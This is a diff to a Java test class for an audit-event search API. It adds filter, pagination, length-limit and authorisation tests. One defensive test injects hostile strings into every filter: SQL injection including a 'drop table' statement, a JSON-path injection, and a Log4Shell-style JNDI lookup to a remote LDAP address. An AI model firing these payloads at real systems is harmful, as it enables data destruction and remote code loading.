@@ -14,6 +14,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.EnumSource;
 
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
@@ -98,8 +99,69 @@ class AuditEventsTest {
                 Map.of("from", "2026-11-22T10:00:10.125+01:00", "to", "2026-11-22T09:00:20.126Z"),
                 loggedOut,
                 requested);
+        assertFindsOwn(Map.of("client", "account-android", "cause", "idle"), timedOut);
+        assertFindsOwn(Map.of("client", "account-web"));
+        assertFindsOwn(Map.of("deviceKind", "android"), timedOut, loggedOut, opened);
+        assertFindsOwn(Map.of("address", "2001:DB8:0::17"), timedOut, loggedOut, opened);
+        assertFindsOwn(Map.of("address", "2001:db8::/120"), timedOut, loggedOut, opened);
+        assertFindsOwn(Map.of("address", "192.0.2.0/24"));
+        assertFindsOwn(Map.of("address", "0.0.0.0/0"));
+        assertFindsOwn(Map.of("label", "ЛЕФО"), timedOut, loggedOut, opened);
+        assertFindsOwn(Map.of("label", "Тел%"));
+        assertFindsOwn(Map.of("label", "_"));
         assertFindsOwn(Map.of("type", "no-such-type"));
         assertFindsOwn(Map.of("sid", "' or '1' = '1"));
+    }
+
+    @Test
+    void theTotalIsSaidWhereASearchBegins() {
+        append(events.opened(NINE));
+        append(events.kept(NINE.plusSeconds(1)));
+        append(events.loggedOut(NINE.plusSeconds(2)));
+        awaited(3, Map.of("subject", events.subject));
+
+        JsonPath first = search(Map.of("subject", events.subject, "limit", "2"));
+        JsonPath next = search(Map.of("subject", events.subject, "limit", "2", "after", first.getString("next")));
+
+        assertThat(first.getInt("total.count")).isEqualTo(3);
+        assertThat(first.getBoolean("total.exact")).isTrue();
+        assertThat(next.getMap("total")).isNull();
+    }
+
+    @ParameterizedTest
+    @EnumSource
+    void noFilterIsTakenForAnythingButText(SearchParameter filter) {
+        append(events.opened(NINE));
+        awaited(1, Map.of("subject", events.subject));
+        for (String hostile : new String[] {
+            "' or '1' = '1",
+            "'); drop table trail.records; --",
+            "$.** ? (@.subject like_regex \".*\")",
+            "\\' or true --",
+            "%",
+            "${jndi:ldap://192.0.2.1/a}"
+        }) {
+            int status = auditor()
+                    .queryParam(filter.parameter(), hostile)
+                    .get("/audit/events")
+                    .statusCode();
+            assertThat(status).as("%s=%s", filter, hostile).isIn(200, 400);
+            if (status == 200) {
+                assertThat(ids(search(Map.of(filter.parameter(), hostile)))).isEmpty();
+            }
+        }
+        assertThat(ids(search(Map.of("subject", events.subject)))).hasSize(1);
+    }
+
+    @ParameterizedTest
+    @EnumSource
+    void tenThousandCharactersAreRefusedByName(SearchParameter filter) {
+        auditor()
+                .queryParam(filter.parameter(), "x".repeat(10_000))
+                .get("/audit/events")
+                .then()
+                .statusCode(400)
+                .body("parameter", equalTo(filter.parameter()));
     }
 
     @Test
@@ -234,6 +296,10 @@ class AuditEventsTest {
                     after=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA, after
                     before=%F0%9F%93%B1, before
                     after=x&before=x, before
+                    address=localhost, address
+                    address=192.0.2.0/33, address
+                    address=192.0.2.0%2F24%2F1, address
+                    label=a%0Db, label
                     """)
     void whatIsNotUnderstoodIsRefusedByName(String query, String parameter) {
         auditor()
@@ -302,7 +368,16 @@ class AuditEventsTest {
 
     @Test
     void onlyAuditorsAreAnswered() {
-        for (String path : new String[] {"/audit/events", "/audit/events/x"}) {
+        for (String path : new String[] {
+            "/audit/events",
+            "/audit/events/x",
+            "/audit/events/x/proof",
+            "/audit/reads",
+            "/audit/export",
+            "/audit/stats",
+            "/audit/checkpoint",
+            "/audit/alarms"
+        }) {
             given().get(path)
                     .then()
                     .statusCode(401)
